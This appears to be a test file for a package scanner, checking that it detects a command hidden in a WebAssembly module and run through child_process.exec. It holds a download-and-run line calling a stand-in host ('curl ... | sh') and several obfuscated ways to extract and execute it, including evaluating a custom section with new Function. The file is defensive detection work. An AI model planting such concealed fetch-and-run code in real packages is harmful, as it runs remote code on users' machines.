import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { HEADER, moduleWith, name, section } from '../../../../support/wasm.js';

const COMMAND = 'curl -fsSL https://files.invalid/s | sh';
const MODULE = moduleWith([
  [16, 'child_process\0'],
  [300, COMMAND],
]);

const GIVEN = `const fs = require('fs'), path = require('path'); const bytes = fs.readFileSync(path.join(__dirname, 'a.wasm'));`;
const OFFERED = `${GIVEN} const { memory, at, size } = new WebAssembly.Instance(new WebAssembly.Module(bytes), {}).exports;`;
const TEXT = `const view = new Uint8Array(memory.buffer); const text = (from) => { let to = from; while (view[to]) to++; return Buffer.from(view.subarray(from, to)).toString(); };`;
const DECODER = 'const decoder = new TextDecoder();';

function behavioursOf(code: string): readonly string[] {
  const { behaviours } = analysePackage(packageOf({ 'index.js': code, 'a.wasm': Buffer.from(MODULE) }));
  return behaviours.flatMap(({ kind, detail = '' }) => (kind === 'native-binary' ? [] : `${kind} ${detail}`));
}

describe('a module of WebAssembly that is started', () => {
  const run = (command: string): string => `require('child_process').exec(${command});`;
  const ways: readonly (readonly [what: string, code: string])[] = [
    ['by the byte', `${OFFERED} ${TEXT} require(text(16)).exec(text(300));`],
    [
      'in a promise',
      `${GIVEN} WebAssembly.instantiate(bytes).then(({ instance }) => { const { memory } = instance.exports; ${TEXT} ${run('text(300)')} });`,
    ],
    [
      'compiled first',
      `${GIVEN} (async () => { const { exports: { memory } } = await WebAssembly.instantiate(await WebAssembly.compile(bytes), {}); ${TEXT} ${run('text(300)')} })();`,
    ],
    [
      'in a part of it',
      `${OFFERED} ${DECODER} ${run(`decoder.decode(new Uint8Array(memory.buffer, 300, ${COMMAND.length}))`)}`,
    ],
    [
      'in a copy of a part',
      `${OFFERED} ${DECODER} ${run(`decoder.decode(memory.buffer.slice(300, ${300 + COMMAND.length}))`)}`,
    ],
    ['in a buffer', `${OFFERED} ${run(`Buffer.from(memory.buffer, size(), ${COMMAND.length}).toString()`)}`],
    [
      'up to its end',
      `${OFFERED} const b = Buffer.from(memory.buffer); ${run('b.toString("utf8", 300, b.indexOf(0, 300))')}`,
    ],
    ['where the module says', `${OFFERED} ${TEXT} require(text(at.value)).exec(text(size()));`],
  ];
  for (const [what, code] of ways)
    it(`has texts that are read ${what}`, () => {
      assert.deepEqual(behavioursOf(code), [`download-and-run ${COMMAND}`]);
    });

  it('has sections of its own, in which a script may stand', () => {
    const told = [...name('producers2'), ...Buffer.from(`require('child_process').exec('${COMMAND}')`)];
    const module = Uint8Array.from([...HEADER, ...section(0, ...name('name'), 1, 2, 3), ...section(0, ...told)]);
    const found = (code: string): readonly string[] => {
      const { behaviours, flows } = analysePackage(
        packageOf({ 'index.js': `${GIVEN} ${code}`, 'a.wasm': Buffer.from(module) }),
      );
      const does = behaviours.filter(({ kind }) => kind === 'download-and-run').map(({ kind }) => kind);
      return [...does, ...flows.map(({ source, sink, via }) => `${source}>${sink} ${via.join()}`)];
    };
    const sections = (of: string): string =>
      `for (const one of WebAssembly.Module.customSections(new WebAssembly.Module(bytes), '${of}')) new Function('require', new TextDecoder().decode(one))(require);`;
    assert.deepEqual(found(sections('producers2')), ['download-and-run', 'data-file>evaluated section']);
    assert.deepEqual(found(sections('name')).slice(0, 1), ['data-file>evaluated section']);
    assert.deepEqual(found(sections('other')), []);
    assert.deepEqual(found(sections('producers2').replace(/new Function.*$/, 'console.log(one);')), []);
  });

  it('may hold anything where nothing was written down, and at places that are not known', () => {
    for (const from of ['200', 'Number(process.argv[2])']) {
      const flows = (source: string): readonly string[] =>
        analysePackage(packageOf({ 'index.js': source, 'a.wasm': Buffer.from(MODULE) })).flows.map(
          (flow) => `${flow.source}>${flow.sink} ${flow.via.join()}`,
        );
      const part = `${OFFERED} ${DECODER} ${run(`decoder.decode(new Uint8Array(memory.buffer, ${from}, 20))`)}`;
      assert.deepEqual(flows(part), ['data-file>run-as-command WebAssembly'], from);
      assert.deepEqual(behavioursOf(part), []);
    }
  });

  it('offers what else it has as before', () => {
    assert.deepEqual(behavioursOf(`${OFFERED} exports.hash = (it) => size(it) + memory.grow(1) + at.value;`), []);
  });
});
